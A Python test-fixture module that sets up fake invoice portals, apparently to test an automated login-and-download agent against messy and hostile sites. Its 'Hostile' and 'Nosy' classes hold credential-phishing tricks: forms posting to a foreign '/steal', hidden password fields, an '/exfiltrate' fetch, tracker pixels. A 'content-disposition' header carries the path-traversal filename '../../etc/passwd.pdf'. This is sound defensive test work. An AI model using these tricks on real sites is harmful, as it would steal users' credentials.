"""Sites of the farm: one sign-in, and a list in one of the shapes that real portals have."""

from __future__ import annotations

import asyncio
import json
import secrets
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from urllib.parse import parse_qs

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

Handler = Callable[[Request], Awaitable[Response]]
USER, PASSWORD = "ap@aldermoor.example", "C4nary-Pa55 wörd!"


@dataclass(frozen=True)
class Doc:
    """One document of a site."""

    number: str
    day: str
    amount: str
    kind: str = "Invoice"

    @property
    def pdf(self) -> bytes:
        """A file that begins as a PDF does, and differs from every other."""
        return f"%PDF-1.4\n% {self.number}\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".encode()


DOCS = (
    Doc("INV-1001", "03/05/2026", "1,928.64"),
    Doc("INV-1002", "17/05/2026", "88.00"),
    Doc("CRN-2001", "21/05/2026", "-40.10", "Credit note"),
    Doc("INV-1003", "02/06/2026", "88.00"),
    Doc("INV-1004", "02/06/2026", "88.00"),
    Doc("INV-1005", "30/06/2026", "12,400.00"),
    Doc("INV-1006", "01/07/2026", "7.15"),
)


def html(body: str, title: str = "Portal", status: int = 200) -> HTMLResponse:
    """A page."""
    return HTMLResponse(
        f"<!doctype html><html lang=en><title>{title}</title><body>{body}</body></html>",
        status_code=status,
    )


@dataclass
class Site:
    """A portal with a one-page sign-in and a table of invoices, two or more pages long."""

    docs: tuple[Doc, ...] = DOCS
    page_size: int = 3
    log: Counter[str] = field(default_factory=Counter)
    sessions: set[str] = field(default_factory=set)

    def app(self) -> Starlette:
        """The site as an application."""
        return Starlette(routes=self.routes())

    def routes(self) -> list[Route]:
        """Where everything is."""
        return [
            Route("/", self.entrance),
            Route("/login", self.login, methods=["GET", "POST"]),
            Route("/logout", self.logout),
            Route("/home", self.guarded(self.home)),
            Route("/invoices", self.guarded(self.invoices)),
            Route("/pay", self.guarded(self.pay), methods=["GET", "POST"]),
            Route("/file/{number:path}", self.guarded(self.file)),
        ]

    def guarded(self, handler: Handler) -> Handler:
        """A handler for those who are signed in."""

        async def guard(request: Request) -> Response:
            if request.cookies.get(self.cookie) not in self.sessions:
                return RedirectResponse("/login", 303)
            return await handler(request)

        return guard

    @property
    def cookie(self) -> str:
        """The cookie's name; cookies are shared by all ports of a host."""
        return f"s{id(self)}"

    async def entrance(self, _request: Request) -> Response:
        """To the sign-in."""
        return RedirectResponse("/login", 303)

    async def login(self, request: Request) -> Response:
        """The sign-in's page and answer."""
        if request.method == "GET":
            return html(self.login_form())
        self.log["posts"] += 1
        form = {k: v[-1] for k, v in parse_qs((await request.body()).decode()).items()}
        if (form.get("user"), form.get("password")) != (USER, PASSWORD):
            self.log["refused"] += 1
            return html(self.login_form("The user name or password is incorrect."))
        return self.welcome()

    def welcome(self) -> Response:
        """What those see who are let in."""
        return self.let_in("/home")

    def let_in(self, target: str) -> Response:
        """A session, and the way on."""
        response, token = RedirectResponse(target, 303), secrets.token_hex(8)
        self.sessions.add(token)
        response.set_cookie(self.cookie, token, httponly=True)
        return response

    def login_form(self, error: str = "") -> str:
        """The form."""
        return (
            f"<h1>Sign in</h1><p class=error>{error}</p><form method=post action=/login id=signin>"
            "<label>E-mail <input name=user autocomplete=username></label>"
            "<label>Password <input name=password type=password></label>"
            "<button>Sign in</button></form>"
            "<footer>Terms and conditions. Too many attempts lock the account: it may be "
            "blocked; captcha and maintenance are mentioned here too.</footer>"
        )

    async def logout(self, request: Request) -> Response:
        """The session is over."""
        self.log["logouts"] += 1
        self.sessions.discard(request.cookies.get(self.cookie, ""))
        return RedirectResponse("/login", 303)

    def frame(self, body: str) -> HTMLResponse:
        """A page behind the sign-in."""
        return html(
            "<nav><a href=/home>Home</a> <a href=/invoices>Invoices</a> "
            f"<a href=/pay>Pay now</a> <a href=/logout>Log out</a></nav>{body}"
        )

    async def home(self, _request: Request) -> Response:
        """The dashboard; it holds a password field, as some do."""
        return self.frame(
            "<h1>Welcome</h1><p id=customer>Customer no. 4711-X</p>"
            "<form><label>New password <input type=password></label></form>"
        )

    async def pay(self, _request: Request) -> Response:
        """What no visit may ever reach."""
        self.log["paid"] += 1
        return self.frame("<h1>Thank you for your payment</h1>")

    async def invoices(self, request: Request) -> Response:
        """One page of the list."""
        self.log["lists"] += 1
        if not self.docs:
            return self.frame(self.nothing())
        number = int(request.query_params.get("page", "1"))
        return self.frame(self.listing(number))

    def nothing(self) -> str:
        """The list without rows."""
        return "<h1>Invoices</h1><p class=empty>You have no invoices yet.</p>"

    def listing(self, number: int) -> str:
        """A page of the table."""
        shown = self.docs[(number - 1) * self.page_size : number * self.page_size]
        more = number * self.page_size < len(self.docs)
        turn = f'<a rel=next class=next href="/invoices?page={number + 1}">Next</a>' if more else ""
        return (
            f"<h1>Invoices</h1><p class=count>{self.counted()}</p>"
            "<table class=docs><thead><tr><th>Date</th><th>Number ▲</th><th>Type</th>"
            "<th>Net</th><th>Total</th><th></th></tr></thead><tbody>"
            f"{''.join(map(self.row, shown))}"
            "<tr class=sum><td></td><td></td><td>Total</td><td></td><td>99.99</td><td></td></tr>"
            f"</tbody></table>{turn}"
        )

    def counted(self) -> str:
        """The counter's text."""
        return f"Invoices ({len(self.docs)})"

    def row(self, doc: Doc) -> str:
        """A row."""
        return (
            f"<tr class=doc><td>{doc.day}</td><td>{doc.number}</td><td>{doc.kind}</td>"
            f"<td>1.00</td><td>€{doc.amount}</td>"
            f'<td><a class=pdf href="/file/{doc.number}?t={secrets.token_hex(4)}">PDF</a></td></tr>'
        )

    async def file(self, request: Request) -> Response:
        """A document's file."""
        number = request.path_params["number"]
        self.log["files"] += 1
        found = next((doc for doc in self.docs if doc.number == number), None)
        if found is None:
            return html("<h1>Not found</h1>", status=404)
        return self.hand_out(found)

    def hand_out(self, doc: Doc) -> Response:
        """The file itself."""
        return Response(
            doc.pdf,
            media_type="application/pdf",
            headers={"content-disposition": 'attachment; filename="../../etc/passwd.pdf"'},
        )


class TwoStep(Site):
    """User name first, then the password, then a code."""

    code = ""

    def routes(self) -> list[Route]:
        return [
            *super().routes(),
            Route("/password", self.password, methods=["POST"]),
            Route("/code", self.ask_code, methods=["GET", "POST"]),
        ]

    def login_form(self, _error: str = "") -> str:
        return (
            "<form method=post action=/password><label>User <input name=user></label>"
            "<button>Continue</button></form>"
        )

    async def password(self, request: Request) -> Response:
        user = parse_qs((await request.body()).decode()).get("user", [""])[0]
        return html(
            f"<form method=post action=/login><input type=hidden name=user value='{user}'>"
            "<label>Password <input name=password type=password></label>"
            "<button>Log in</button></form>"
        )

    def welcome(self) -> Response:
        return RedirectResponse("/code", 303)

    async def ask_code(self, request: Request) -> Response:
        error = ""
        if request.method == "POST":
            self.log["codes"] += 1
            given = parse_qs((await request.body()).decode()).get("otp", [""])[0]
            if given in self.codes():
                return self.let_in("/home")
            error = "The code is wrong."
        return html(
            f"<p>{error}</p><form method=post action=/code><label>Code "
            "<input name=otp autocomplete=one-time-code inputmode=numeric></label>"
            "<button>Verify</button></form>"
        )

    def codes(self) -> tuple[str, ...]:
        """The codes that are good now."""
        return (self.code,)


class Spa(Site):
    """A page that fetches its rows and shows more of them by a button."""

    def routes(self) -> list[Route]:
        return [*super().routes(), Route("/api/documents", self.guarded(self.answer))]

    async def invoices(self, _request: Request) -> Response:
        return self.frame(
            "<h1>Documents</h1><div id=list></div><button id=more>Load more</button><script>"
            "let at = 0; const more = document.querySelector('#more');"
            "async function load() { const r = await fetch('/api/documents?from=' + at);"
            " const told = await r.json(); for (const d of told.data.items) {"
            " const p = document.createElement('p'); p.textContent = d.no;"
            " document.querySelector('#list').append(p); }"
            " at += told.data.items.length; if (at >= told.data.total) more.remove(); }"
            "more.addEventListener('click', load); load();</script>"
        )

    async def answer(self, request: Request) -> Response:
        start = int(request.query_params["from"])
        items = [
            {
                "id": f"d/{n}",
                "no": doc.number,
                "date": "-".join(reversed(doc.day.split("/"))),
                "gross": {"value": doc.amount.replace(",", ""), "cur": "EUR"},
            }
            for n, doc in enumerate(self.docs)
        ]
        told = {"data": {"items": items[start : start + self.page_size], "total": len(items)}}
        return JSONResponse(told)

    async def file(self, request: Request) -> Response:
        return self.hand_out(self.docs[int(request.path_params["number"].removeprefix("d/"))])


class Details(Site):
    """A list whose rows lead to a page each, where the file is."""

    def routes(self) -> list[Route]:
        return [*super().routes(), Route("/invoice/{number}", self.guarded(self.detail))]

    def row(self, doc: Doc) -> str:
        return (
            f"<tr class=doc><td>{doc.day}</td><td>{doc.number}</td><td>{doc.kind}</td><td>1.00</td>"
            f"<td>EUR {doc.amount}</td>"
            f'<td><a class=open href="/invoice/{doc.number}">View</a></td></tr>'
        )

    def counted(self) -> str:
        return f"1-{self.page_size} of {len(self.docs)}"

    async def detail(self, request: Request) -> Response:
        number = request.path_params["number"]
        return self.frame(
            f"<h1>Invoice {number}</h1>"
            f"<button onclick=\"location='/file/{number}'\">Download PDF</button>"
        )


class Statements(Site):
    """Invoices, and statements as CSV behind a tab."""

    def routes(self) -> list[Route]:
        return [
            *super().routes(),
            Route("/statements", self.guarded(self.statements)),
            Route("/statement.csv", self.guarded(self.sheet)),
        ]

    async def statements(self, _request: Request) -> Response:
        return self.frame(
            "<h1>Statements</h1><table id=st><tr><th>Statement</th><th>Date</th><th></th></tr>"
            "<tr class=st><td>ST-2026-06</td><td>30 June 2026</td>"
            "<td><a href=/statement.csv>CSV</a></td></tr></table>"
        )

    async def sheet(self, _request: Request) -> Response:
        rows = "Date,Number,Amount\n2026-05-03,INV-1001,1928.64\n2026-05-17,INV-1002,88.00\n"
        return Response(rows, media_type="text/csv")


@dataclass
class Wall(Site):
    """After the sign-in stands a page that a person has to deal with."""

    says: str = ""

    def welcome(self) -> Response:
        return html(f"<main>{self.says}</main>")


@dataclass
class Broken(Site):
    """A server that answers every page with an error."""

    status: int = 500
    says: str = "Internal error"

    async def login(self, _request: Request) -> Response:
        return html(self.says, status=self.status)


class Slow(Site):
    """A server that takes its time over the first page."""

    async def login(self, _request: Request) -> Response:
        await asyncio.sleep(20)
        return html("late")


class Redesigned(Site):
    """The same portal after a redesign: the table is gone."""

    def listing(self, _number: int) -> str:
        return "<h1>Your papers</h1><div class=x-9f>INV-1001</div>"


class Miscounting(Site):
    """The counter says more than the list shows."""

    def counted(self) -> str:
        return f"Invoices ({len(self.docs) + 2})"


class NotDocuments(Site):
    """One link brings a web page, one nothing at all."""

    def hand_out(self, doc: Doc) -> Response:
        if doc.number == "INV-1002":
            return html("<h1>Your session has expired</h1>")
        if doc.number == "INV-1003":
            return Response(b"", media_type="application/pdf")
        return super().hand_out(doc)


class Doubled(Site):
    """Two rows claim one number."""

    def row(self, doc: Doc) -> str:
        return super().row(doc).replace("INV-1004", "INV 1003")


class BlankNumber(Site):
    """A row lacks its number."""

    def row(self, doc: Doc) -> str:
        return super().row(doc).replace("<td>INV-1003</td>", "<td></td>")


@dataclass
class Nosy(Site):
    """Its pages call other hosts."""

    foreign: str = ""

    def frame(self, body: str) -> HTMLResponse:
        calls = (
            f"<img src='{self.foreign}/beacon'><img src='https://tracker.example/pixel'>"
            f"<script>fetch('{self.foreign}/exfiltrate').catch(() => 0)</script>"
        )
        return super().frame(body + calls)


@dataclass
class Hostile(Site):
    """Its sign-in is after the password. `trick` names how."""

    foreign: str = ""
    trick: str = ""

    def routes(self) -> list[Route]:
        return [
            *super().routes(),
            Route("/frame", self.framed),
            Route("/moved", self.moved, methods=["POST"]),
        ]

    async def entrance(self, _request: Request) -> Response:
        if self.trick == "redirect":
            return RedirectResponse(f"{self.foreign}/login", 302)
        return await super().entrance(_request)

    async def moved(self, _request: Request) -> Response:
        self.log["moved"] += 1
        return RedirectResponse(f"{self.foreign}/steal", 307)

    async def framed(self, _request: Request) -> Response:
        return html(super().login_form())

    def login_form(self, error: str = "") -> str:
        plain = super().login_form(error)
        tricks = {
            "redirect": plain,
            "action": plain.replace("action=/login", f"action={self.foreign}/steal"),
            "formaction": plain.replace("<button>", f"<button formaction={self.foreign}/steal>"),
            "base": f"<base href={self.foreign}>" + plain.replace("action=/login", "action=login"),
            "clobber": plain.replace("action=/login", f"action={self.foreign}/steal").replace(
                "<button>", "<input name=action value=/login><button>"
            ),
            "moved": plain.replace("action=/login", "action=/moved"),
            "invisible": plain.replace("type=password", "type=password style=opacity:0"),
            "offscreen": plain.replace(
                "type=password", "type=password style=position:absolute;left:-9999px"
            ),
            "tiny": plain.replace(
                "type=password", "type=password style=width:1px;height:1px;border:0;padding:0"
            ),
            "shown": plain.replace("type=password", "type=text"),
            "sandboxed": f'<iframe id=door sandbox="allow-forms" srcdoc="{plain}"></iframe>',
            "frame": f"<iframe id=door src={self.foreign}/frame></iframe>",
            "readonly": plain.replace("type=password", "type=password readonly"),
        }
        return tricks[self.trick]


class Recorder:
    """A foreign server that writes down all that reaches it."""

    def __init__(self) -> None:
        self.hits: list[str] = []

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        body = (await receive()).get("body", b"")
        self.hits.append(json.dumps([scope.get("path"), body.decode(errors="replace")]))
        await html("<form method=post><input name=user><input type=password name=password></form>")(
            scope, receive, send
        )
